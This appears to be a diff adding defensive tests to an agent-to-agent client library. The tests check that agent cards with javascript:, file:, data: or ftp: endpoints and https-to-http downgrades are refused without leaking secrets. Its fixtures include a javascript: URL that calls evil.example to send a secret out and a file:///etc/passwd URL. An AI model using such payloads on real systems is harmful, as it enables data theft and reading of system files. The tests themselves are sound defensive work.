@@ -13,6 +13,7 @@ import {
 import { Hono } from 'hono';
 import { a2aIdempotent } from '../adapters/a2a/fetch.ts';
 import { AgentCardError, createA2AClient, resolveAgentCard } from '../adapters/a2a/index.ts';
+import type { FetchLike } from '../src/call.ts';
 import { captureStatus } from '../src/capture.ts';
 import { createFetch } from '../src/chain.ts';
 import { HttpStatusError, NetworkError } from '../src/errors.ts';
@@ -508,5 +509,82 @@ test('a REST agent’s generic error is mapped by its HTTP status, not by a stat
     assert.ok(error instanceof HttpStatusError, String(error));
     assert.equal(error.status, 502);
     assert.equal(error.retryable, true);
+  });
+});
+
+/** A card, served as `override` says, whose endpoint fields (`url`, interfaces) are replaced. */
+function cardWith(override: Record<string, unknown>) {
+  const { supportedInterfaces: _, ...rest } = cardFor('http://unused.invalid');
+  return agentApp(newSeen(), [], () => Response.json({ ...rest, ...override }));
+}
+
+test('a card whose endpoints are javascript:, file:, data: or ftp: URLs is refused as AGENT_CARD_INVALID, naming each path but no value', async () => {
+  const app = cardWith({
+    url: 'javascript:fetch("//evil.example/?k=SECRET-1")',
+    supportedInterfaces: [
+      { url: 'file:///etc/passwd?SECRET-2', protocolBinding: 'JSONRPC' },
+      { url: 'data:application/json,{"result":"SECRET-3"}', protocolBinding: 'HTTP+JSON' },
+    ],
+    additionalInterfaces: [{ url: 'ftp://user:SECRET-4@host.example/a2a', transport: 'GRPC' }],
+  });
+  await withApp(app, async ({ origin }) => {
+    const error = await resolveAgentCard(origin, {
+      path: '.well-known/agent-card.json?token=SECRET-5',
+    }).catch((e: unknown) => e);
+    assert.ok(error instanceof AgentCardError, String(error));
+    assert.equal(error.code, 'AGENT_CARD_INVALID');
+    const refused = 'must be an http: or https: URL (got a string, not shown)';
+    assert.deepEqual([...error.issues].sort(), [
+      `card.additionalInterfaces.0.url: ${refused}`,
+      `card.supportedInterfaces.0.url: ${refused}`,
+      `card.supportedInterfaces.1.url: ${refused}`,
+      `card.url: ${refused}`,
+    ]);
+    assert.match(error.message, /token=/);
+    assert.doesNotMatch(`${error.message} ${JSON.stringify(error)}`, /SECRET/);
+  });
+});
+
+test('a card fetched over https may not send the client to plain http, while one fetched over http may use either', async () => {
+  const app = cardWith({
+    url: 'https://agent.example/a2a',
+    supportedInterfaces: [
+      { url: 'http://agent.example/a2a', protocolBinding: 'JSONRPC' },
+      { url: 'https://agent.example/rest', protocolBinding: 'HTTP+JSON' },
+    ],
+  });
+  await withApp(app, async ({ origin }) => {
+    // The https card URL is served by the loopback app: only the scheme the caller asked for matters.
+    const overHttps: FetchLike = (input, init) =>
+      globalThis.fetch(String(input).replace('https://agent.test', origin), init);
+    const error = await resolveAgentCard('https://agent.test/', { fetch: overHttps }).catch(
+      (e: unknown) => e,
+    );
+    assert.ok(error instanceof AgentCardError, String(error));
+    assert.deepEqual(error.issues, [
+      'card.supportedInterfaces.0.url: must be an https: URL, as the card was fetched over https (got a string, not shown)',
+    ]);
+    const card = await resolveAgentCard(origin);
+    assert.equal(card.supportedInterfaces?.[0]?.url, 'http://agent.example/a2a');
+  });
+});
+
+test('createA2AClient refuses a card that points the SDK at a data: URL, before any request goes there', async () => {
+  const app = cardWith({ url: 'data:application/json,{"jsonrpc":"2.0","id":1,"result":{}}' });
+  const fetched: string[] = [];
+  const recording: FetchLike = (input, init) => {
+    fetched.push(String(input instanceof Request ? input.url : input));
+    return globalThis.fetch(input, init);
+  };
+  await withApp(app, async ({ origin }) => {
+    const error = await createA2AClient(origin, { policy: quickPolicy(), fetch: recording }).then(
+      async (client) => {
+        await client.sendMessage(userMessage('hello')).catch(() => undefined);
+        return client;
+      },
+      (e: unknown) => e,
+    );
+    assert.ok(error instanceof AgentCardError, String(error));
+    assert.deepEqual(fetched, [`${origin}/.well-known/agent-card.json`]);
   });
 });
